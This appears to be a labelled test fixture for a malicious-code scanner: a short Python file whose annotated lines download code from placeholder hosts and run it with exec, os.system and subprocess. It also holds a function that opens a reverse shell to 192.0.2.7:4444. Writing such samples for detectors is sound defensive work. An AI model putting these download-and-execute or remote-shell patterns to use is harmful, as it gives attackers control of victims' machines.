import os
import socket
import subprocess
import sys
import urllib.request

import requests
from requests import get as g

code = requests.get("https://updates.example.invalid/step.py").text
exec(code)  # malice: exec-downloaded
with urllib.request.urlopen("https://updates.example.invalid/cmd") as answer:
    os.system(answer.read().decode())  # malice: exec-downloaded
exec(g("https://updates.example.invalid/" + "x").text)  # malice: exec-downloaded
subprocess.run(  # malice: exec-downloaded
    [sys.executable, "-c", requests.get("https://x.invalid/a").text]
)


def load():
    return urllib.request.urlopen("https://x.invalid/a").read()


def apply():
    text = load()
    exec(compile(text, "x", "exec"))  # malice: exec-downloaded


def serve():
    link = socket.socket()
    link.connect(("192.0.2.7", 4444))
    while True:
        command = link.recv(1024).decode()
        output = subprocess.check_output(command, shell=True)  # malice: exec-downloaded
        link.send(output)
